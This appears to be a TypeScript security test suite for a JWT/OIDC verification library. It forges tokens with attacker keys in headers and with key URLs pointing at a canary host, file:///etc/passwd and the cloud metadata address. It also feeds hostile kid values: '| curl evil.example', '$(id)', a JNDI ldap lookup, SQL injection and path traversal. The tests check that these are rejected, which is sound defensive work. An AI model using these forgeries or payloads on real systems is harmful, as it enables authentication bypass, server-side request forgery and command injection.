import { Buffer } from 'node:buffer'
import { createHash } from 'node:crypto'

import t from 'tap'

import { jwt } from '../../lib/providers/jwt/index.js'
import { oidc } from '../../lib/providers/oidc/index.js'
import { createCertificate, toPem } from './certificate.js'
import { AUDIENCE, createKey, createToken, encode, hmac, signerOf } from './forge.js'
import { attackAll, createTarget } from './harness.js'
import { json, listen } from './listen.js'

import type { Test } from 'tap'
import type { SigningKey } from './forge.js'
import type { Attack, Target } from './harness.js'
import type { Listener } from './listen.js'

const good = createKey('RS256', 'key-of-the-issuer')
const evil = createKey('RS256', 'key-of-the-attacker')
const evilEc = createKey('ES256', 'key-of-the-attacker')
const certificate = createCertificate(evil)

interface Scene {
  readonly issuer: Listener
  /** A server that nobody must call. It would answer with the attacker's keys. */
  readonly canary: Listener
  readonly target: Target
  sign (header: Readonly<Record<string, unknown>>, key?: SigningKey): string
}

async function setScene (t: Test): Promise<Scene> {
  const issuer = await listen(t)
  issuer.answer = (request, response) => json(request.url === '/jwks' ? { keys: [good.jwk] } : { issuer: issuer.url, jwks_uri: `${issuer.url}/jwks` })(request, response)
  const canary = await listen(t)
  canary.answer = (request, response) => {
    const body = request.url?.endsWith('.pem') ? toPem('CERTIFICATE', certificate) : { keys: [evil.jwk], issuer: canary.url, jwks_uri: `${canary.url}/jwks` }
    json(body)(request, response)
  }
  const target = await createTarget(t, { jwtProvider: oidc({ issuer: issuer.url, audience: AUDIENCE, jwksCooldownSeconds: 3_600 }) })
  const sign = (header: Readonly<Record<string, unknown>>, key = evil) => createToken(key, { header, claims: { iss: issuer.url } })
  return { issuer, canary, target, sign }
}

function embedded ({ sign }: Scene): readonly Attack[] {
  const privateJwk = evil.privateKey.export({ format: 'jwk' })
  const x5c = [certificate.toString('base64')]
  const headers: ReadonlyArray<readonly [string, Readonly<Record<string, unknown>>]> = [
    ['jwk (CVE-2018-0114, CVE-2026-34240; RFC 7515, 4.1.3)', { jwk: evil.jwk }],
    ['jwk without a kid', { jwk: evil.jwk, kid: undefined }],
    ['jwk under the kid of the issuer', { jwk: { ...evil.jwk, kid: good.kid }, kid: good.kid }],
    ['jwk with its private members', { jwk: privateJwk }],
    ['jwk as a text', { jwk: JSON.stringify(evil.jwk) }],
    ['jwk in a list', { jwk: [evil.jwk] }],
    ['jwk in a key set', { jwks: { keys: [evil.jwk] } }],
    ['keys in the header', { keys: [evil.jwk] }],
    ['key as PEM', { key: evil.publicKey.export({ format: 'pem', type: 'spki' }).toString() }],
    ['kid that is a JWK', { kid: JSON.stringify(evil.jwk) }],
    ['kid that is a PEM', { kid: evil.publicKey.export({ format: 'pem', type: 'spki' }).toString() }],
    ['x5c of the attacker\'s own making (RFC 7515, 4.1.6)', { x5c }],
    ['x5c under the kid of the issuer', { x5c, kid: good.kid }],
    ['x5c without a kid', { x5c, kid: undefined }],
    ['x5c as a text', { x5c: x5c[0] }],
    [
      'x5t and x5t#S256 (RFC 7515, 4.1.7 and 4.1.8)',
      { x5t: createHash('sha1').update(certificate).digest('base64url'), 'x5t#S256': createHash('sha256').update(certificate).digest('base64url'), x5c }
    ],
    ['epk', { epk: evilEc.jwk }]
  ]
  return headers.map(([name, header]) => ({ name, token: sign(header), reason: header['kid'] === good.kid || ('kid' in header && header['kid'] === undefined) ? 'signature' : 'kid_unknown' }))
}

function pointing ({ sign, issuer, canary }: Scene): readonly Attack[] {
  const port = new URL(canary.url).port
  const addresses: ReadonlyArray<readonly [string, unknown]> = [
    ['an address', `${canary.url}/jwks`],
    ['an address whose user is the issuer', `http://${new URL(issuer.url).host}@127.0.0.1:${port}/jwks`],
    ['an address that begins like the issuer\'s', `${issuer.url}.127.0.0.1.nip.example:${port}/jwks`],
    ['an address with the issuer in its query', `${canary.url}/jwks?${issuer.url}`],
    ['an address with the issuer in its fragment', `${canary.url}/jwks#${issuer.url}`],
    ['an address by another name of this machine', `http://localhost:${port}/jwks`],
    ['an address as a number', `http://2130706433:${port}/jwks`],
    ['a list of addresses', [`${canary.url}/jwks`]],
    ['an address without a scheme', `//127.0.0.1:${port}/jwks`],
    ['a file', 'file:///etc/passwd'],
    ['data', `data:application/json;base64,${Buffer.from(JSON.stringify({ keys: [evil.jwk] })).toString('base64')}`],
    ['the metadata service of a cloud', 'http://169.254.169.254/latest/meta-data/']
  ]
  return ['jku', 'x5u', 'kid', 'iss', 'jwks_uri', 'url', 'cty'].flatMap(member => addresses.map(([name, address]): Attack => ({
    name: `${member}: ${name}${member === 'jku' ? ' (CVE-2024-21643; RFC 8725, 3.10)' : ''}`,
    token: sign({ [member]: address }),
    reason: member === 'kid' && typeof address !== 'string' ? 'header_member' : 'kid_unknown'
  })))
}

t.test('keys in the header are not looked at', async t => {
  const scene = await setScene(t)
  await attackAll(t, scene.target, { control: scene.sign({}, good), attacks: embedded(scene) })
})

t.test('addresses in the header are not followed', async t => {
  const scene = await setScene(t)
  await attackAll(t, scene.target, { control: scene.sign({}, good), attacks: pointing(scene) })
  t.strictSame(scene.canary.hits, [], 'nobody was called')
  t.strictSame(scene.issuer.hits, ['GET /.well-known/openid-configuration', 'GET /jwks'], 'the issuer was asked once, at boot')
})

t.test('what else stands in the header of a good token changes nothing', async t => {
  const { target, sign, canary } = await setScene(t)
  for (const header of [{ jwk: evil.jwk }, { jku: `${canary.url}/jwks` }, { x5u: `${canary.url}/evil.pem` }, { x5c: [certificate.toString('base64')] }]) {
    t.equal((await target.send({ token: sign(header, good) })).status, 200, Object.keys(header).join())
  }
  t.strictSame(canary.hits, [], 'nobody was called')
})

t.test('issuers that nobody trusts are not asked for their keys (RFC 8725, 3.8 and 3.10; CVE-2025-59936)', async t => {
  const { target, issuer, canary, sign } = await setScene(t)
  const issuers: readonly unknown[] = [
    canary.url, `${canary.url}/`, `${issuer.url}@${new URL(canary.url).host}`, [issuer.url, canary.url], [issuer.url], { url: issuer.url }, 'file:///etc/passwd',
    'http://169.254.169.254/', '', '../..', `${issuer.url}/../evil`, `${issuer.url}#evil`, `${issuer.url}\n${canary.url}`, null, 7, undefined
  ]
  await attackAll(t, target, {
    control: sign({}, good),
    attacks: issuers.map(iss => ({
      name: `iss ${JSON.stringify(iss)?.replaceAll(/:\d+/g, ':port') ?? 'absent'}`,
      token: createToken(evil, { claims: { iss } }),
      reason: typeof iss === 'string' ? 'issuer_unknown' : 'token_syntax'
    }))
  })
  t.strictSame(canary.hits, [], 'nobody was called')
})

t.test('hostile kid', async t => {
  const zero = Buffer.alloc(0)
  const kids: ReadonlyArray<readonly [string, unknown]> = [
    ['path to an empty file', '/dev/null'], ['path traversal', '../../../../../../dev/null'], ['path on Windows', '..\\..\\NUL'],
    ['path to a file of the app', 'package.json'], ['path with a NUL', 'key\0.pem'],
    ['SQL injection', "x' UNION SELECT 'secret';--"], ['SQL injection, always true', "' OR '1'='1"], ['NoSQL injection', '{"$gt":""}'], ['LDAP injection', '*)(uid=*))(|(uid=*'],
    ['command injection', '| curl evil.example'], ['command substitution', '$(id)'], ['template injection', '{{constructor}}'],
    ['JNDI lookup (CVE-2021-44228)', '${' + 'jndi:ldap://evil.example/a}'],
    ['log injection', 'x\r\n{"level":30,"msg":"user is admin"}'], ['header injection', 'x", error="none'], ['terminal escapes', '\x1b[2J\x1b[1;1H'],
    ['markup', '<script>alert(1)</script>'], ['format string', '%s%n%x%d'],
    ['__proto__', '__proto__'], ['constructor', 'constructor'], ['toString', 'toString'], ['prototype', 'prototype'], ['length', 'length'], ['index 0', '0'],
    ['empty', ''], ['blank', ' '], ['NUL', '\0'], ['very long', 'k'.repeat(4_000)], ['lone surrogate', '\ud800'], ['right-to-left override', '\u202egnp.yek'],
    ['the issuer\'s in upper case', good.kid.toUpperCase()], ['the issuer\'s with a blank', `${good.kid} `], ['the issuer\'s with a NUL', `${good.kid}\0`],
    ['the issuer\'s, cut off', good.kid.slice(0, -1)], ['the issuer\'s with more', `${good.kid}:RS256`],
    ['the issuer\'s with a soft hyphen', good.kid.replace('-', '\u00ad')], ['the issuer\'s in full width', good.kid.replaceAll('e', '\uff45')], ['"null"', 'null'],
    ['"undefined"', 'undefined'], ['"*"', '*']
  ]
  const { target, issuer, sign } = await setScene(t)
  const wrongTypes: readonly unknown[] = [null, 0, 1, true, false, [], [good.kid], {}, { kid: good.kid }, { toString: good.kid }]
  await attackAll(t, target, {
    control: sign({}, good),
    attacks: [
      ...kids.map(([name, kid]): Attack => ({ name: `${name}, signed by the attacker`, token: sign({ kid }), reason: 'kid_unknown' })),
      ...kids.map(([name, kid]): Attack => ({ name: `${name}, signed by the issuer itself`, token: sign({ kid }, good), reason: 'kid_unknown' })),
      ...kids.slice(0, 6).map(([name, kid]): Attack => ({
        name: `${name}, MAC by what is there`,
        token: createToken(evil, { header: { alg: 'HS256', kid }, claims: { iss: issuer.url }, signer: hmac('HS256', zero) }),
        reason: 'algorithm'
      })),
      ...wrongTypes.map((kid): Attack => ({ name: `kid ${JSON.stringify(kid)}`, token: sign({ kid }, good), reason: 'header_member' }))
    ]
  })
  t.equal(issuer.hits.length, 2, 'no kid cost the issuer a fetch')
})

t.test('the same kid at two issuers: each token is for its own keys only (CVE-2018-15801, CVE-2026-49998, CVE-2026-50202)', async t => {
  const kid = 'key-1'
  const a = createKey('RS256', kid)
  const b = createKey('RS256', kid)
  const providerOf = (issuer: string, key: SigningKey) => jwt({ issuer, audience: AUDIENCE, jwks: { keys: [key.jwk] } })
  const [issuerA, issuerB] = ['https://a.example', 'https://b.example']
  const target = await createTarget(t, { jwtProvider: [providerOf(issuerA, a), providerOf(issuerB, b)] })
  const token = (iss: string, key: SigningKey, header = {}) => createToken(key, { claims: { iss }, header })
  t.equal((await target.send({ token: token(issuerB, b) })).status, 200)
  await attackAll(t, target, {
    control: token(issuerA, a),
    attacks: [
      { name: 'issuer a, key of b', token: token(issuerA, b), reason: 'signature' },
      { name: 'issuer b, key of a', token: token(issuerB, a), reason: 'signature' },
      { name: 'issuer a, key of b, no kid', token: token(issuerA, b, { kid: undefined }), reason: 'signature' },
      { name: 'both issuers, key of b', token: createToken(b, { claims: { iss: [issuerA, issuerB] } }), reason: 'token_syntax' },
      { name: 'issuer a in the header, b in the claims, key of a', token: token(issuerB, a, { iss: issuerA }), reason: 'signature' },
      { name: 'kid with the issuer before it', token: token(issuerA, b, { kid: `${issuerB}:${kid}` }), reason: 'kid_unknown' },
      { name: 'kid with the algorithm before it', token: token(issuerA, b, { kid: `RS256:${kid}:${issuerB}` }), reason: 'kid_unknown' },
      { name: 'claims twice, b first and a last, key of b', token: createToken(b).replace(/\.[^.]+\./, `.${encode(`{"iss":"${issuerB}","iss":"${issuerA}"}`)}.`), reason: 'signature' },
      { name: 'signed by a for b, ES256', token: createToken(evilEc, { claims: { iss: issuerB }, header: { kid }, signer: signerOf('ES256', evilEc.privateKey) }), reason: 'algorithm' }
    ]
  })
})
